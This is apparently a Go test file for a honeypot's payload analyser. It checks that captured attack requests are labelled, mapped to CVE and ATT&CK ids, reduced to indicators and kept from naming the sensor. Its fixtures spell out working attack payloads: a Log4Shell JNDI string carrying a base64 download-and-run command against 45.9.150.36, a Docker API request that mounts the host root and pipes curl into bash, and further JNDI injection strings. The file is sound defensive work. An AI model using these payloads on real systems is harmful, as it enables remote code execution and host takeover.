package payload

import (
	"encoding/base64"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"terroir"
)

func TestAnalyzeTellsWhatARequestIsMadeFor(t *testing.T) {
	self := Self{Addrs: []netip.Addr{netip.MustParseAddr("203.0.113.9")}}
	command := base64.StdEncoding.EncodeToString([]byte("cd /tmp; curl http://45.9.150.36/x.sh -o x.sh; chmod 777 x.sh; sh x.sh; history -c"))
	for name, c := range map[string]struct {
		payload, proto, label, tags, indicators string
	}{
		"log4j": {"GET / HTTP/1.1\r\nHost: 203.0.113.9:8888\r\nX-Api-Version: ${${lower:j}ndi:ldap://45.9.150.36:1389/Basic/Command/Base64/" + command + "}\r\n\r\n",
			"http", "GET /", "CVE-2021-44228 T1059.004 T1070.003 T1105 T1222.002",
			"file x.sh , ipv4 45.9.150.36 dropper, url http://45.9.150.36/x.sh dropper, url ldap://45.9.150.36:1389/Basic/Command/Base64/" + command + " callback"},
		"docker": {"POST /v1.24/containers/create HTTP/1.1\r\nHost: 203.0.113.9:2375\r\nContent-Type: application/json\r\n\r\n" +
			`{"Image":"alpine","Cmd":["chroot","/mnt","/bin/sh","-c","curl http://45.9.150.36/x.sh | bash"],"HostConfig":{"Binds":["/:/mnt"]}}`,
			"docker", "POST /containers/create", "T1059.004 T1105 T1610 T1611", "image alpine , ipv4 45.9.150.36 dropper, url http://45.9.150.36/x.sh dropper"},
		"plain":   {"GET /chmod HTTP/1.1\r\nHost: 203.0.113.9\r\nUser-Agent: curl/7.1\r\n\r\n", "http", "GET /chmod", "", ""},
		"a scan":  {"*1\r\n$4\r\nPING\r\n", "redis", "PING", "", ""},
		"nothing": {"\x00\x01", "", "", "", ""},
	} {
		t.Run(name, func(t *testing.T) {
			a := Analyze([]byte(c.payload), terroir.TCP, self)
			var found []string
			for _, i := range a.Indicators {
				if i.Payload != terroir.NewPayloadID([]byte(c.payload)) {
					t.Errorf("%s %s is of payload %s", i.Type, i.Value, i.Payload)
				}
				found = append(found, fmt.Sprintf("%s %s %s", i.Type, i.Value, i.Role))
			}
			got := [...]string{a.Facts.AppProto, a.Facts.Label, strings.Join(a.Facts.Tags, " "), strings.Join(found, ", ")}
			if want := [...]string{c.proto, c.label, c.tags, c.indicators}; got != want {
				t.Errorf("\n got %q\nwant %q", got, want)
			}
			if a.Template.ID != a.Facts.Template || a.Template.AppProto != c.proto {
				t.Errorf("template %s of %s, facts have %s", a.Template.ID, a.Template.AppProto, a.Facts.Template)
			}
			if strings.Contains(string(a.Template.Text)+string(a.Template.Cargo), "203.0.113.9") {
				t.Error("the template names the sensor")
			}
		})
	}
}

func TestAnalyzeDependsOnItsArgumentsAlone(t *testing.T) {
	b := []byte("POST / HTTP/1.1\r\nHost: 203.0.113.9\r\n\r\na=${jndi:dns://x.example.com}&b=%24%7Bjndi:rmi://45.9.150.36/b%7D")
	first := Analyze(b, terroir.TCP, Self{})
	for range 20 {
		again := Analyze(slices.Clone(b), terroir.TCP, Self{})
		if fmt.Sprint(first) != fmt.Sprint(again) {
			t.Fatalf("%v\n%v", first, again)
		}
	}
}

// What people are shown of a payload does not tell where the sensor is.
func TestTextsDoNotNameTheSensor(t *testing.T) {
	b := []byte("GET /203.0.113.9/x HTTP/1.1\r\nHost: 203.0.113.9\r\nUser-Agent: Mozilla/5.0 scan 203.0.113.9\r\n\r\n")
	f := Analyze(b, terroir.TCP, Self{Addrs: []netip.Addr{netip.MustParseAddr("203.0.113.9")}}).Facts
	for _, text := range []string{f.Label, f.UserAgent} {
		if text == "" || strings.Contains(text, "203.0.113.9") {
			t.Errorf("%q", text)
		}
	}
}
